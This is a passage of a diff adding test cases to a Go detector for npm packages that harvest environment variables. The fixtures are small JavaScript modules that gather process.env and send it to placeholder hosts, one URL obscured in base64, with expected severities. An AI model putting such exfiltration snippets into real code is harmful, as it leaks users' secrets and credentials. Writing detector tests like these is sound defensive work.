@@ -10,6 +10,27 @@ import (
 
 func TestEnvHarvest(t *testing.T) {
 	rt.Check(t, EnvHarvest{}, []rt.Case{
+		// the environment crossing modules: handed to another module's
+		// function that sends it, or returned by one to a module that
+		// does, or both over three modules (analyze links them)
+		{"module_sends_what_it_is_given", map[string]string{"package.json": rt.Pkg(`"main":"main.js"`),
+			"main.js":      `const cache = require("./lib/cache"); const all = Object.assign({}, process.env); cache.persist(".env", all)`,
+			"lib/cache.js": `const https = require("https"); exports.persist = function (file, vars) { https.request({ hostname: "c.example.invalid", method: "POST" }).end(JSON.stringify({ file, vars })) }`}, finding.SeverityCritical},
+		{"module_returns_env", map[string]string{"package.json": rt.Pkg(`"main":"index.mjs"`),
+			"collect.mjs": `export default function collect() { return { ...process.env } }`,
+			"index.mjs":   `import collect from "./collect.mjs"; const data = collect(); fetch(atob("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC9l"), { method: "PUT", body: JSON.stringify(data) })`}, finding.SeverityCritical},
+		{"three_modules", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"index.js":  `const { gather } = require("./gather"); const { send } = require("./send"); send(gather())`,
+			"gather.js": `exports.gather = () => JSON.stringify(process.env)`,
+			"send.js":   `exports.send = (body) => require("http").request({ host: "198.51.100.7", method: "POST" }).end(body)`}, finding.SeverityCritical},
+		// a crash reporter's opt-in: to the DSN its caller configures
+		{"module_sends_to_configured", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"index.js":     `const { send } = require("./transport"); exports.capture = (dsn, err, opts) => send(dsn, { err: String(err), env: opts.includeEnv ? { ...process.env } : undefined })`,
+			"transport.js": `exports.send = (dsn, event) => require("https").request(dsn, { method: "POST" }).end(JSON.stringify(event))`}, finding.SeverityMedium},
+		// a module given the environment that sends nothing of it
+		{"module_reads_what_it_is_given", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"index.js":  `require("./expand")(parsed, process.env)`,
+			"expand.js": `module.exports = function expand(parsed, env) { const out = {}; for (const k in parsed) out[k] = env[k] || parsed[k]; fetch("https://api.example.invalid/v", { method: "POST", body: "v" }); return out }`}, finding.SeverityNone},
 		// the runner's token sent through the file's request helper; the
 		// actions toolkit sends it to the service URL that comes with it
 		{"runner_token_sent", map[string]string{"index.js": `const https = require("https"); function req(u, o, b) { const r = https.request(u, o); r.end(b) }
